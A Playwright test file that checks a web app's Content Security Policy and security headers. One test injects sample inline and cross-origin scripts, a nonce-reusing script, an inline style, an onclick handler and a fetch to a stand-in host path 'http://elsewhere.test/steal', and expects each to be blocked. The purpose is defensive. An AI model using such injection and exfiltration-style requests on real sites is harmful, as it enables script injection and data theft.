import type { APIResponse } from '@playwright/test'
import { expect, test } from '../support/test'

// That the product does not violate its policy is part of every test: a violation is an error in the console.
test('the policy blocks inline and cross-origin scripts, inline styles and requests to other origins', async ({
  page,
  allowConsoleErrors,
}) => {
  allowConsoleErrors(/Content Security Policy/)
  const violations: string[] = []
  await page.exposeFunction('reportViolation', (violation: string) => violations.push(violation))
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      Reflect.get(window, 'reportViolation')(`${effectiveDirective} ${blockedURI}`),
    ),
  )
  await page.goto('/login')
  await page.evaluate(async () => {
    const script = (properties: object) =>
      document.head.append(Object.assign(document.createElement('script'), properties))
    script({ textContent: 'document.body.remove()' })
    // The nonce of the page, which any code can read, is one for styles.
    const nonce = document.querySelector<HTMLElement>('[nonce]')?.nonce
    script({ nonce, textContent: 'document.body.remove()' })
    script({ src: 'http://elsewhere.test/code.js' })
    document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))
    await fetch('http://elsewhere.test/steal').catch(() => undefined)
  })
  await page.getByRole('heading', { name: 'Bienvenido' }).evaluate((heading) => {
    heading.setAttribute('onclick', 'document.body.remove()')
    heading.dispatchEvent(new Event('click'))
  })
  await expect
    .poll(() => violations)
    .toEqual([
      'script-src-elem inline',
      'script-src-elem inline',
      'script-src-elem http://elsewhere.test/code.js',
      'style-src-elem inline',
      'connect-src http://elsewhere.test/steal',
      'script-src-attr inline',
    ])
  await expect(page.getByRole('heading', { name: 'Bienvenido' })).toBeVisible()
})

const INERT = "default-src 'none'; frame-ancestors 'none'"
const policyOf = (response: APIResponse) => response.headers()['content-security-policy'] ?? ''

test("the policy of the shell's page is strict, with a new nonce per response; that of all else, errors too, is inert", async ({
  request,
}) => {
  const responses = await Promise.all(['/', '/main', '/login', '/nada'].map((path) => request.get(path)))
  for (const response of responses) {
    expect(response.headers()).toMatchObject({
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
    })
    expect(policyOf(response)).toMatch(
      /^default-src 'none'; script-src 'self'( http:\/\/localhost:\d+)+ 'sha256-[\w+/=]{44}'; worker-src blob:; style-src /,
    )
    expect(policyOf(response)).toContain("base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
    expect(policyOf(response)).not.toContain('unsafe')
    const nonce = /'nonce-([\w+/=]{22,})'/.exec(policyOf(response))?.[1]
    expect(await response.text()).toContain(`nonce="${nonce}"`)
  }
  expect(new Set(responses.map(policyOf)).size).toBe(responses.length)

  const [page] = responses
  const script = /<script [^>]*src="([^"]+)"/.exec((await page?.text()) ?? '')?.[1]
  const remotes = process.env.REMOTES_URL
  for (const path of [
    script,
    '/config.json',
    '/missing.js',
    '/%zz',
    `${remotes}/mf-users/live.json`,
    `${remotes}/nada`,
  ]) {
    const response = await request.get(path ?? '')
    expect([path, policyOf(response)]).toEqual([path, INERT])
    expect(response.headers()).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer' })
  }
})
